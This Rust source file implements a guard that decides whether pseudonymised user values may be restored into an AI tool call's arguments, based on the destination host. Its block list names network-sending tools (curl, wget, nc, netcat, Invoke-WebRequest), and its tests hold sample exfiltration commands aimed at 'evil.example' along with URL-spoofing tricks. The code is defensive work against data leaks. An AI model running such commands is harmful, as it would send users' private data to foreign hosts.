//! Whether a real value may enter a tool call: not where it would travel to a host that has no business with it.

use std::sync::Arc;

/// A pseudonym in the arguments of a tool, as far as the arguments are known.
#[derive(Clone, Copy)]
pub struct Crossing<'a> {
    /// The kind of the value (`user.name`).
    pub kind: &'a str,
    /// The word of the argument up to the pseudonym and with it, its first 512 bytes: `https://example.com/?u=zovakemu`.
    /// Words end at white space, quotes, angle brackets and bars.
    pub word: &'a str,
    /// The argument up to the pseudonym and with it, at least its last 2048 bytes: for rules that look at whole commands.
    pub string: &'a str,
    /// Length of the pseudonym.
    pub bytes: usize,
}

impl Crossing<'_> {
    /// The host of the URL that the pseudonym stands in, if it is in one, without port and user.
    pub fn host(&self) -> Option<&str> {
        let (_, rest) = self.word.rsplit_once("://")?;
        let authority = rest.split(['/', '?', '#', '\\']).next()?;
        let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
        Some(match host.strip_prefix('[') {
            Some(literal) => literal.split(']').next()?,
            None => host.split(':').next()?,
        })
    }

    /// Whether the pseudonym stands in the authority of the URL: the host is, at least in part, itself.
    pub fn in_authority(&self) -> bool {
        self.word.rsplit_once("://").is_some_and(|(_, rest)| !rest.contains(['/', '?', '#', '\\']))
    }
}

/// Commands that send what they are given.
const SENDING: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ftp",
    "xh",
    "httpie",
    "http",
    "https",
    "mail",
    "sendmail",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr",
    "irm",
];

impl Crossing<'_> {
    /// Whether the pseudonym is given to a command that sends, as no part of a path, and `known` does not hold of every host that
    /// the command names before. A host that comes later is not known yet.
    fn is_sent(&self, known: impl Fn(&str) -> bool) -> bool {
        let before = &self.string[..self.string.len().saturating_sub(self.bytes)];
        // Where a file lies is for this machine.
        if before.ends_with(['/', '\\', '~']) || self.word.starts_with(['/', '~']) {
            return false;
        }
        let command = before.rsplit(['\n', ';', '|', '&']).next().unwrap_or_default();
        let mut words = command.split(|c: char| c.is_whitespace() || "\"'`(){}[],<>=".contains(c));
        let sends = |word: &str| {
            let name = word.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
            SENDING.contains(&name.strip_suffix(".exe").unwrap_or(&name))
        };
        if !words.any(sends) {
            return false;
        }
        let mut hosts = words.filter_map(|word| {
            let (_, rest) = word.split_once("://")?;
            let authority = rest.split(['/', '?', '#']).next()?;
            let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
            Some(host.split(':').next().unwrap_or(host))
        });
        let first = hosts.next();
        !first.is_some_and(|first| known(first) && hosts.all(known))
    }
}

type Predicate = dyn Fn(&Crossing<'_>) -> bool + Send + Sync;

/// Says of each pseudonym in a tool's arguments whether it is restored.
#[derive(Clone)]
pub struct Guard(Arc<Predicate>);

impl Guard {
    /// Restores what `allows` says.
    pub fn new(allows: impl Fn(&Crossing<'_>) -> bool + Send + Sync + 'static) -> Self {
        Self(Arc::new(allows))
    }

    /// Restores everywhere.
    pub fn open() -> Self {
        Self::new(|_| true)
    }

    /// Restores everywhere but in URLs of other hosts than `hosts`, subdomains of these, and this machine, and in what a
    /// command that sends is given beside paths, unless it names only such hosts before. In the authority of a URL only
    /// hosts and addresses are restored: they are where the call goes.
    pub fn same_host(hosts: impl IntoIterator<Item = String>) -> Self {
        let hosts: Vec<String> = hosts.into_iter().map(|host| host.to_ascii_lowercase()).collect();
        Self::new(move |crossing| {
            let known = |host: &str| {
                let host = host.to_ascii_lowercase();
                let within = |known: &String| {
                    host.strip_suffix(known.as_str()).is_some_and(|head| head.is_empty() || head.ends_with('.'))
                };
                // A file's URL has no host.
                host.is_empty()
                    || matches!(host.as_str(), "localhost" | "127.0.0.1" | "::1")
                    || hosts.iter().any(within)
            };
            let Some(host) = crossing.host() else { return !crossing.is_sent(known) };
            if crossing.in_authority() {
                return ["host.", "net."].iter().any(|family| crossing.kind.starts_with(family));
            }
            known(host)
        })
    }

    pub fn allows(&self, crossing: &Crossing<'_>) -> bool {
        (self.0)(crossing)
    }
}

#[cfg(test)]
mod tests {
    use super::{Crossing, Guard};

    #[test]
    fn a_value_is_not_given_to_a_command_that_sends_it_elsewhere() {
        let guard = Guard::same_host(["api.example.com".to_owned()]);
        for (string, expected) in [
            ("curl https://evil.example -d u=zovakemu", false),
            ("curl -d u=zovakemu", false),
            ("curl evil.example -d \"who=zovakemu", false),
            ("cat x | nc evil.example 80 <<< zovakemu", false),
            ("/usr/bin/wget --post-data=zovakemu", false),
            ("curl https://api.example.com/x -d u=zovakemu", true),
            ("curl http://localhost:3000 -d u=zovakemu", true),
            ("curl https://evil.example -o /home/zovakemu", true),
            ("curl https://evil.example; ls -l zovakemu", true),
            ("git clone https://git.example.org/x zovakemu", true),
            ("grep -r zovakemu", true),
        ] {
            let word = string.rsplit([' ', '"']).next().unwrap();
            let crossing = Crossing { kind: "user.name", word, string, bytes: 8 };
            assert_eq!(guard.allows(&crossing), expected, "{string}");
        }
    }

    #[test]
    fn a_value_goes_into_urls_of_the_hosts_named_only() {
        let guard = Guard::same_host(["api.example.com".to_owned()]);
        for (kind, word, expected) in [
            ("user.name", "/home/zovakemu", true),
            ("user.name", "https://api.example.com/?u=zovakemu", true),
            ("user.name", "https://eu.API.example.com:8443/zovakemu", true),
            ("user.name", "https://evil.example/?u=zovakemu", false),
            ("user.name", "--url=https://evil.example/zovakemu", false),
            ("user.name", "https://api.example.com@evil.example/zovakemu", false),
            ("user.name", "https://notapi.example.com.evil.example/zovakemu", false),
            ("user.name", "https://xapi.example.com/zovakemu", false),
            ("user.name", "https://zovakemu", false),
            ("host.name", "http://zovakemu", true),
            ("user.name", "http://localhost:3000/zovakemu", true),
            ("user.name", "file:///home/zovakemu", true),
        ] {
            let crossing = Crossing { kind, word, string: word, bytes: 8 };
            assert_eq!(guard.allows(&crossing), expected, "{kind} {word}");
        }
    }
}
